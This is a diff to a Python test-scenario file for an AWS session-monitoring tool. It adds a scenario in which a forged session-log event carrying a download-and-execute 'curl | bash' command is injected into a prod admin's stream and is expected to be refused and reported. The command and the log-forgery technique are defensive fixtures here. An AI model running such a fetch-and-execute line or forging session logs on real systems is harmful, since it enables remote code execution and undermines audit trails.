@@ -30,6 +30,7 @@ MALLORY = Person("mallory", "Contractor")
 CAROL = Person("carol", "Developer")
 FRANK = Person("frank", "Admin")
 GRACE = Person("grace", "Admin")
+HEIDI = Person("heidi", "Admin")
 
 CURL_BASH = "curl -s http://203.0.113.9/cleanup.sh | bash"
 
@@ -68,6 +69,18 @@ class Output:
 
 
 @dataclass(frozen=True)
+class Forge:
+    """Someone on ``host`` (where ``person`` has a shell) writes ``lines`` into the log stream of
+    ``scenario``'s session with PutLogEvents, as any instance that streams sessions can (aws-facts §7):
+    the event claims the victim's session id, but the forger's own host and identity."""
+
+    scenario: str
+    host: str
+    person: Person
+    lines: tuple[str, ...]
+
+
+@dataclass(frozen=True)
 class Exit:
     """The session ends from the host (``exit``, the command finished): no API call, no event."""
 
@@ -84,7 +97,7 @@ class Deployment:
 @dataclass(frozen=True)
 class Step:
     at: str  # "mm:ss" from the start of the morning
-    do: Start | Denied | Output | Exit | Deployment
+    do: Start | Denied | Output | Forge | Exit | Deployment
 
     @property
     def seconds(self) -> int:
@@ -200,6 +213,18 @@ SCENARIOS: list[Scenario] = [
         ),
     ),
     Scenario(
+        "forged",
+        "A forged curl | bash from a dev host in a prod admin's log stream: refused and reported, "
+        "the admin's session lives on",
+        Expect(
+            aws_status="Connected",
+            ledger_state="active",
+            audit=("session",),  # the refusal, on the victim's own trail
+            audit_absent=("termination", "finding"),
+            slack=(SlackExpectation("#prod-security", "forged session-log event refused"),),
+        ),
+    ),
+    Scenario(
         "monitor",
         'The same prod curl | bash in monitor mode: "would terminate", the session lives on',
         Expect(
@@ -287,6 +312,12 @@ MORNING: list[Step] = [
         ),
     ),
     Step("10:12", Exit("exit")),
+    # Heidi, a prod admin, opens a shell on the payments host. Someone on Dana's dev host writes a
+    # download-and-execute line into Heidi's log stream (its sessionId is Heidi's; its target and
+    # user are the dev host's and Dana's): it is refused and reported, and Heidi's session lives.
+    Step("25:00", Start("forged", HEIDI, "prod-payments-1", reason="INC-5120 card batch stuck")),
+    Step("25:10", Output("forged", ("sh-4.2$ sh-4.2$ systemctl status card-batch", "active (running)"))),
+    Step("25:30", Forge("forged", "dev-web-1", DANA, (f"sh-4.2$ {CURL_BASH}",))),
     # Dana's shell has printed nothing since 00:05: warned at 26:00, terminated at 31:00.
     # The team redeploys with ForceMonitorMode=true (a first rollout elsewhere) and Grace repeats
     # Erin's mistake: this time ssm-warden only says what it would have done.
